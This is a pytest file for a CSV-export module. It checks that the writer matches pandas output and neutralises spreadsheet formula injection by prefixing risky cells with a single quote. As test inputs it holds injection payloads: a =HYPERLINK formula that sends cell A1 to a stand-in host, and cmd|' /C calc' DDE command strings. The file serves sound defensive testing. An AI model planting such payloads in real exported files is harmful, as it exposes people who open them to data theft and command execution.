"""Writing derived files (tieval.store): the Arrow CSV formatter writes exactly what pandas writes,
and no CSV cell that a spreadsheet would evaluate as a formula is ever written.

The formula cases reproduce the CSV-injection payloads of issue 18 (``=HYPERLINK(...)``,
``+cmd|' /C calc'!A0``, ``@SUM(...)``, a leading tab or carriage return) and the OWASP rule
(a single quote before the cell); signed numbers (``-3``, ``+4.5``, ``-0.25``) must stay as
they are, in text columns as well as numeric ones.
"""

from __future__ import annotations

import csv
import io
import random
import re

import numpy as np
import openpyxl
import pandas as pd
import pytest

from tieval import store

ALPHABET = ["a", "b", "é", ",", '"', "\n", "\r", " ", "\t", "🙂", "'", ";", "\u2028", "\x85"]
ALPHABET += ["=", "+", "-", "@", "3", "0", ".", "e"]  # formula triggers, and the parts of signed numbers


def _reference_safe(value):
    """The OWASP rule written out independently of tieval.store: a text starting with = + - @ tab
    or CR gets a leading single quote unless it is a plain decimal number."""
    if not isinstance(value, str) or not value or value[0] not in "=+-@\t\r":
        return value
    if re.fullmatch(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", value):
        return value
    return "'" + value


def _pandas_bytes(frame: pd.DataFrame, *, safe: bool = True) -> bytes:
    """What pandas writes for ``frame`` (after the reference neutralisation, unless ``safe`` is off)."""
    if safe:
        frame = frame.copy()
        for j in range(frame.shape[1]):
            column = frame.iloc[:, j]
            if isinstance(column.dtype, pd.CategoricalDtype) or column.dtype.kind not in "iufb":
                values = [_reference_safe(v) for v in column.astype(object)]
                frame.isetitem(j, pd.Series(values, index=frame.index, dtype=object))
        frame.columns = [_reference_safe(c) for c in frame.columns]
    out = io.StringIO()
    frame.to_csv(out, index=False, lineterminator="\n", float_format=store.FLOAT_FORMAT)
    return out.getvalue().encode("utf-8")


def _random_frame(rng: random.Random, seed: int) -> pd.DataFrame:
    n, k = rng.randint(0, 40), rng.randint(2, 5)

    def text():
        return "".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, 5)))

    columns = {}
    for j in range(k):
        kind = rng.choice(["str", "str-missing", "category", "category-missing", "int"])
        values = [text() for _ in range(n)]
        if kind.endswith("missing"):
            values = [v if rng.random() < 0.7 else None for v in values]
        name = rng.choice(["a", "b,c", 'q"', "x y", "n\nl", "é", "=c", "-d"]) + str(j)
        if kind.startswith("str"):
            columns[name] = pd.Series(values, dtype="str")
        elif kind.startswith("category"):
            columns[name] = pd.Series(
                pd.Categorical(
                    values,
                    categories=pd.Index(
                        pd.unique(pd.Series([v for v in values if v is not None], dtype="str")), dtype="str"
                    ),
                )
            )
        else:
            columns[name] = pd.Series(np.random.default_rng(seed + j).integers(-(10**12), 10**12, n)).astype(
                rng.choice(["int64", "int32", "uint64"]) if n else "int64"
            )
    return pd.DataFrame(columns)


@pytest.mark.parametrize("batch", [1, 3, 1 << 20])
def test_arrow_formatter_writes_the_bytes_pandas_writes(tmp_path, monkeypatch, batch):
    monkeypatch.setattr(store, "CSV_BATCH", batch)
    rng = random.Random(batch)
    fast = 0
    for trial in range(120):
        frame = _random_frame(rng, trial)
        fast += store._arrow_formattable(frame)
        path = store.write_csv(frame, tmp_path / f"t{trial}.csv")
        assert path.read_bytes() == _pandas_bytes(frame), (trial, frame.dtypes.to_dict())
    assert fast > 100  # the comparison really exercised the Arrow formatter


@pytest.mark.parametrize(
    "frame",
    [
        pd.DataFrame({"a": ["", "x"]}, dtype="str"),  # one column: '""' for an empty field
        pd.DataFrame({"a": [1.5, 2.0], "b": ["x", "y"]}),  # floats: pandas' float format
        pd.DataFrame({"a": [True, False], "b": ["x", "y"]}),
        pd.DataFrame({"a": pd.array([1, None], dtype="Int64"), "b": ["x", "y"]}),
        pd.DataFrame({"a": ["p", 3], "b": ["x", "y"]}, dtype=object),
    ],
)
def test_other_frames_are_written_by_pandas(tmp_path, frame):
    assert not store._arrow_formattable(frame)
    assert store.write_csv(frame, tmp_path / "x.csv").read_bytes() == _pandas_bytes(frame)


def test_a_carriage_return_at_the_start_is_neutralised_in_both_paths(tmp_path):
    frame = pd.DataFrame({"a": ["\r=1+1", "x"], "b": ["y", "\t@A1"]}, dtype="str")
    expected = b"a,b\n'\r=1+1,y\nx,'\t@A1\n"
    assert store.write_csv(frame, tmp_path / "a.csv").read_bytes() == expected
    assert store.write_csv(frame.astype(object), tmp_path / "p.csv").read_bytes() == expected


def test_a_failed_write_keeps_every_previous_file(tmp_path, monkeypatch):
    good = pd.DataFrame({"a": ["1"], "b": ["2"]}, dtype="str")
    paths = store.write_csvs({tmp_path / "one.csv": good, tmp_path / "two.csv": good})
    before = [p.read_bytes() for p in paths]

    def broken(frame, handle):
        handle.write(b"half")
        raise RuntimeError("disk full")

    monkeypatch.setattr(store, "_write_csv_arrow", broken)
    with pytest.raises(RuntimeError):
        store.write_csvs({tmp_path / "one.csv": good.assign(a="9"), tmp_path / "two.csv": good})
    assert [p.read_bytes() for p in paths] == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["one.csv", "two.csv"]


def _cells(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


PAYLOADS = [
    ('=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("- a bulleted answer", "'- a bulleted answer"),
    ("-", "'-"),
    ("-3", "-3"),
    ("+4.5", "+4.5"),
    ("-0.25", "-0.25"),
    ("-.5", "-.5"),
    ("-1e-05", "-1e-05"),
    ("+44 20 7946 0958", "'+44 20 7946 0958"),
    ("-3 ", "'-3 "),
    ("a=1", "a=1"),
    (" =1", " =1"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
]


@pytest.mark.parametrize("raw, safe", PAYLOADS)
def test_neutralise_follows_the_owasp_rule(raw, safe):
    assert store.neutralise(raw) == safe


@pytest.mark.parametrize("kind", ["str", "category", "object"])
def test_formula_cells_are_neutralised_in_every_path(tmp_path, kind):
    cases = [(raw, safe) for raw, safe in PAYLOADS if "\r" not in raw]  # a bare CR is written unquoted, as by pandas
    texts = [raw for raw, _ in cases]
    frame = pd.DataFrame(
        {
            "text": pd.Series(texts, dtype={"str": "str", "category": "category", "object": object}[kind]),
            "other": pd.Series(["x"] * len(texts), dtype="str"),
            "int": np.arange(len(texts)) - 3,
        }
    )
    assert store._arrow_formattable(frame) == (kind != "object")
    rows = _cells(store.write_csv(frame, tmp_path / "t.csv"))
    assert rows[0] == ["text", "other", "int"]
    assert [r[0] for r in rows[1:]] == [safe for _, safe in cases]
    assert [r[2] for r in rows[1:]] == [str(i - 3) for i in range(len(texts))]  # -3, -2, -1: numbers untouched


def test_numbers_are_never_quoted(tmp_path):
    frame = pd.DataFrame(
        {"f": [-0.25, 4.5, -3.0, float("nan")], "i": [-3, 4, -1, 0], "s": ["-3", "+4.5", "-0.25", "x"]}
    )
    text = store.write_csv(frame, tmp_path / "n.csv").read_text(encoding="utf-8")
    assert text == "f,i,s\n-0.25,-3,-3\n4.5,4,+4.5\n-3,-1,-0.25\n,0,x\n"


def test_column_names_and_index_labels_are_neutralised(tmp_path):
    frame = pd.DataFrame({"=cmd": ["a", "b"], "b": ["c", "d"]}, dtype="str")
    assert _cells(store.write_csv(frame, tmp_path / "h.csv"))[0] == ["'=cmd", "b"]
    indexed = pd.DataFrame({"v": [1.5, -2.0]}, index=pd.Index(["@x", "-1"], name="+k"))
    assert _cells(store.write_csv(indexed, tmp_path / "i.csv", index=True)) == [
        ["'+k", "v"],
        ["'@x", "1.5"],
        ["-1", "-2"],
    ]


def test_a_frame_that_needs_nothing_is_not_copied():
    frame = pd.DataFrame({"a": ["x", "-3"], "b": [-1.5, 2.0]})
    assert store.neutralise_frame(frame) is frame


def test_ordinary_cells_round_trip_byte_identical_to_pandas(tmp_path):
    """write_csvs (Arrow path and pandas path) gives exactly pandas' bytes when no cell needs neutralising."""
    frame = pd.DataFrame(
        {
            "study": pd.Categorical(["s"] * 4),
            "respondent_id": pd.Series(["R1", "R2", "R3", "R4"], dtype="str"),
            "code": pd.Series(["-1", "2", "", "+3"], dtype="str"),
            "text": pd.Series(['He said "hi", then left', "a\nb", "", "é 🙂"], dtype="str"),
            "n": [1, -2, 3, 4],
        }
    )
    arrow, pandas_path = store.write_csvs({tmp_path / "a.csv": frame, tmp_path / "p.csv": frame.astype(object)})
    assert arrow.read_bytes() == _pandas_bytes(frame, safe=False) == pandas_path.read_bytes()


def test_formula_cells_of_an_xlsx_input_are_found(tmp_path):
    """An XLSX export in which a cell holds a formula (written by a spreadsheet: data_type 'f') and one
    in which a text answer starts with '=' (typed by a respondent and stored as text)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Responses"
    ws.append(["ID", "Comment", "Score"])
    ws.append([1, "fine", 3])
    ws.append([2, "ok", "=1+2"])  # a formula cell
    ws.append([3, None, 4])
    ws.cell(row=4, column=2).value = '=HYPERLINK("http://x.example")'
    ws.cell(row=4, column=2).data_type = "s"  # stored as text that starts with '='
    wb.create_sheet("Other").append(["=2+2"])
    wb.save(tmp_path / "f.xlsx")
    found = store.formula_cells(tmp_path / "f.xlsx")
    assert [(c.sheet, c.cell, c.formula) for c in found] == [
        ("Responses", "C3", "=1+2"),
        ("Responses", "B4", '=HYPERLINK("http://x.example")'),
    ]
    assert [c.cell for c in store.formula_cells(tmp_path / "f.xlsx", "Other")] == ["A1"]
    assert store.formula_cells(tmp_path / "f.xlsx", "Other")[0].row == 1
